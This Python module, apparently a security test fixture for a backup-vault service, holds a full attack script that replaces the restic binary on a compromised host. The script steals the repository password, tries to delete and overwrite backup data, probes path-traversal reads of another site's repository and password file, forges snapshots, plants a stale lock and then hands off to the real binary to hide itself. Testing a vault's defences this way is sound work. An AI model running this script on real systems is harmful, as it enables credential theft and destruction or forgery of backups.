"""What an intruder on the website host tries on the vault while a backup runs."""

from __future__ import annotations

ATTACK = r"""#!/usr/bin/python3
import hashlib, json, os, subprocess, sys, urllib.request, urllib.error, base64
if "backup" not in sys.argv:
    os.execv("/usr/bin/restic.real", ["restic", *sys.argv[1:]])
value = lambda name: next(a.split("=", 1)[1] for a in sys.argv if a.startswith(name + "="))
password, where = open(value("--password-file")).read(), open(value("--repository-file")).read()
credentials, address = where[len("rest:http://"):].rstrip("/").split("@")
token = "Basic " + base64.b64encode(credentials.encode()).decode()
loot = {"password": password, "answers": {}, "read": []}

def ask(method, path, body=None, accept="application/vnd.x.restic.rest.v2"):
    head = {"Authorization": token, "Accept": accept}
    request = urllib.request.Request(f"http://{address}{path}", method=method, data=body, headers=head)
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status, answer.read()
    except urllib.error.HTTPError as error:
        return error.code, b""
    except OSError as error:
        return 0, str(error).encode()

for kind in ("snapshots", "keys", "index", "data"):
    names = [row["name"] for row in json.loads(ask("GET", f"/{kind}/")[1] or b"[]")]
    loot["answers"][f"list {kind}"] = len(names)
    for name in names:
        loot["answers"][f"DELETE /{kind}/{name}"] = ask("DELETE", f"/{kind}/{name}")[0]
        loot["answers"][f"POST /{kind}/{name}"] = ask("POST", f"/{kind}/{name}", b"junk")[0]
for method, path in (("DELETE", "/config"), ("POST", "/config"), ("DELETE", "/"), ("POST", "/?create=true")):
    loot["answers"][f"{method} {path}"] = ask(method, path, b"junk" if method == "POST" else None)[0]
for path in ("/../web02/repository/config", "/..%2f..%2fweb02%2frepository%2fconfig",
             "/data/../../../web02/repository/config", "/../../../../etc/ungcuu-vault/passwords/web02",
             "/web02/repository/config", "/web02/config", "/web02/", "/../ledger.json", "/%2e%2e/ledger.json"):
    loot["answers"][f"read {path}"], body = ask("GET", path)
    loot["read"].append(hashlib.sha256(body).hexdigest())
    if os.path.exists("/root/write-elsewhere"):
        loot["answers"][f"write {path}"] = ask("POST", path, b"junk")[0]
open("/root/loot.json", "w").write(json.dumps(loot))
if os.path.exists("/root/forge"):
    environment = dict(os.environ, RESTIC_PASSWORD=password, RESTIC_REPOSITORY=where)
    forge = ["/usr/bin/restic.real", "--no-cache", "backup", "--time", "2099-01-01 00:00:00"]
    forge += ["--host=web01", "/etc/issue"]
    subprocess.run(forge, env=environment, check=True, stdout=subprocess.DEVNULL)
if os.path.exists("/root/leave-lock"):
    import time
    environment = dict(os.environ, RESTIC_PASSWORD=password, RESTIC_REPOSITORY=where)
    prune = subprocess.Popen(["/usr/bin/restic.real", "--no-cache", "prune"], env=environment)
    before = ask("GET", "/locks/")[1]
    for _ in range(100):
        time.sleep(0.1)
        if ask("GET", "/locks/")[1] != before:
            break
    prune.kill()  # its lock is exclusive, and stays
again = [f"--password-file=/dev/stdin" if a.startswith("--password-file") else a for a in sys.argv[1:]]
reader, writer = os.pipe()
os.write(writer, where.encode()); os.close(writer); os.set_inheritable(reader, True)
again = [f"--repository-file=/dev/fd/{reader}" if a.startswith("--repository-file") else a for a in again]
passed = [reader, int(value("--exclude-file").rpartition("/")[2])]
done = subprocess.run(["/usr/bin/restic.real", *again], input=password.encode(), pass_fds=passed)
sys.exit(done.returncode)
"""


OF_WEB02 = "cd /var/lib/ungcuu-vault/sites/web02 && find . -type f -print0 | sort -z | xargs -0 sha256sum"
